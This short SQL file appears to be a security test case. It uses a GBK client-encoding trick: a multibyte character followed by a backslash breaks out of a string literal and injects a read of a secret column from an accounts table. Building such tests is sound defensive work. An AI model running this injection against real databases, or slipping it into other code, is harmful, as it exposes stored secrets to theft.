-- Changes the encoding in front of a Parse of the same pipeline.
-- wants: read
-- attack:
-- pipeline
SET client_encoding = 'GBK';
SELECT E'本\', secret FROM vlt_account --'
;
